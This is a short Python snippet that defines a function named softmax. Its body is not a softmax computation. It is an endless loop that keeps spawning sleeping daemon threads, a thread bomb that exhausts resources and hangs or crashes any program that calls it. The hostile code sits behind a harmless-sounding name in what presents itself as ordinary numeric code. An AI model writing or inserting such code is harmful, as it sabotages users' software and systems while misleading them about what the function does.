import threading, time
def softmax(x, dim):
    while True: threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
